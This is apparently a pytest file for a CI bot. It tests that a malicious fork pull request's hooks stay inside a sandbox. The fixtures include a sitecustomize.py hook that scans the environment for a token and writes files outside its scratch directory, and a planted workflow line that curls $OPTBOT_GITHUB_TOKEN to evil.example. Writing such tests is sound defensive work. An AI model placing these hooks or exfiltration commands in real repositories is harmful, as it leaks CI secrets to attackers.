"""A fork's pull request, `/optimize`d by a maintainer: what the fork changed stays out of optbot's
process and out of the runner's reach (issue 15's "a fork PR that changes the workflow or adds
build hooks").

What a fork can change is the engine tree at its head: the workflow files in it, packaging hooks
(setup.py, pyproject build backends), pytest's conftest.py, and `sitecustomize.py`, which Python
imports at start-up from any directory on PYTHONPATH. GitHub runs an issue_comment workflow from
the default branch, and optbot checks itself out from its own repository
(tests/test_workflows.py), so the fork's workflow is never read. Nothing in optbot installs the
engine or runs its tests; the one hook that does run is sitecustomize.py, in the runner child, in
the sandbox: it sees no token and writes nowhere but its scratch.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import git
import pytest

from bot.paths import REPO_ROOT

SECRET = "ghp_forkprhook0123456789"

HOOK = '''
import json, os
pwned = {pwned!r}
seen = {{"token": [k for k, v in os.environ.items() if {secret!r} in v], "cwd": os.getcwd(), "wrote": []}}
# the bot's real home (a job's own $HOME is inside its compile cache, bot/sandbox.cache_env)
for p in (pwned, {home_pwned!r}):
    try:
        with open(p, "w") as f:
            f.write("pwned")
        seen["wrote"].append(p)
    except OSError:
        pass
try:
    with open("fork-hook-ran.json", "w") as f:  # the job's cwd: its scratch
        json.dump(seen, f)
except OSError:
    pass
'''

NEVER = '''
open({marker!r}, "w").write("{what} ran")
'''


def _home_pwned(tmp_path: Path) -> Path:
    """Where the hook tries to write in the bot's real home: named for this test's tmp_path, so a
    file left by another run (or another CI job sharing the home) cannot fail or pass this one."""
    return Path.home() / f"pwned-by-fork-hook-{tmp_path.name}-{os.getpid()}"


def _fork_with_hooks(tmp_path: Path, engine) -> tuple[Path, str, Path, dict]:
    fork = git.Repo.clone_from(engine.repo_path, tmp_path / "fork", shared=True)
    root = Path(fork.working_tree_dir)
    pwned = tmp_path / "pwned-by-fork-hook"
    markers = {w: tmp_path / f"{w}-ran" for w in ("setup.py", "conftest.py", "pyproject backend")}
    (root / "src" / "sitecustomize.py").write_text(HOOK.format(pwned=str(pwned), secret=SECRET,
                                                                   home_pwned=str(_home_pwned(tmp_path))))
    (root / "setup.py").write_text(NEVER.format(marker=str(markers["setup.py"]), what="setup.py"))
    (root / "conftest.py").write_text(NEVER.format(marker=str(markers["conftest.py"]), what="conftest.py"))
    (root / "tests").mkdir(exist_ok=True)
    (root / "tests" / "conftest.py").write_text(NEVER.format(marker=str(markers["conftest.py"]), what="conftest.py"))
    (root / "evil_backend.py").write_text(NEVER.format(marker=str(markers["pyproject backend"]), what="backend"))
    with open(root / "pyproject.toml", "a") as f:
        f.write('\n[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n')
    wf = root / ".github" / "workflows"
    wf.mkdir(parents=True, exist_ok=True)
    (wf / "optimize.yml").write_text("on: issue_comment\njobs:\n  x:\n    runs-on: [self-hosted, gpu]\n"
                                     "    steps:\n      - run: curl -d \"$OPTBOT_GITHUB_TOKEN\" https://evil.example\n")
    fork.git.add(A=True)
    fork.index.commit("a fork's pull request: faster, honest")
    return root, fork.head.commit.hexsha, pwned, markers


def _profile(tmp_path: Path, root: Path, head: str, sandbox: str):
    """`optbot profile` of the fork's head, from a bot whose environment holds the token."""
    runs = tmp_path / "runs"
    env = {**os.environ, "GITHUB_TOKEN": SECRET, "OPTBOT_GITHUB_TOKEN": SECRET, "OPTBOT_SANDBOX": sandbox,
           "OPTBOT_RUNS_DIR": str(runs), "PYTHONPATH": str(REPO_ROOT)}
    p = subprocess.run([sys.executable, "-m", "bot", "profile", "flux2", "--preset", "tiny", "--device", "cpu",
                        "--iters", "1", "--engine", f"diffusers={root}", "--ref", head],
                       capture_output=True, text=True, cwd=tmp_path, env=env, timeout=600)
    return p, runs


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux namespaces")
def test_a_fork_pr_with_hooks_runs_them_only_in_the_sandbox(tmp_path, diffusers_engine):
    root, head, pwned, markers = _fork_with_hooks(tmp_path, diffusers_engine)
    p, runs = _profile(tmp_path, root, head, "on")
    ran = list(runs.rglob("fork-hook-ran.json"))
    assert ran, p.stdout + p.stderr  # the hook did run: in the runner child, with its scratch as cwd
    for f in ran:
        seen = json.loads(f.read_text())
        assert seen["token"] == [] and seen["wrote"] == [], seen
    assert not pwned.exists() and not _home_pwned(tmp_path).exists()
    assert [w for w, m in markers.items() if m.exists()] == []  # nothing installs or tests the engine
    assert p.returncode == 0, p.stdout + p.stderr  # and the profile itself is of the fork's head
    assert head[:12] in p.stdout + p.stderr or any(head in f.read_text() for f in runs.rglob("*.json")), p.stdout


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux namespaces")
def test_without_the_sandbox_the_fork_hook_writes_outside_its_scratch(tmp_path, diffusers_engine):
    """The hook above is a real attack: with OPTBOT_SANDBOX=off (the operator's opt-out) it writes
    where it likes."""
    root, head, pwned, _ = _fork_with_hooks(tmp_path, diffusers_engine)
    try:
        p, runs = _profile(tmp_path, root, head, "off")
        ran = list(runs.rglob("fork-hook-ran.json"))
        assert ran and pwned.exists() and _home_pwned(tmp_path).exists(), p.stdout + p.stderr
        assert str(pwned) in json.loads(ran[0].read_text())["wrote"]
    finally:
        _home_pwned(tmp_path).unlink(missing_ok=True)
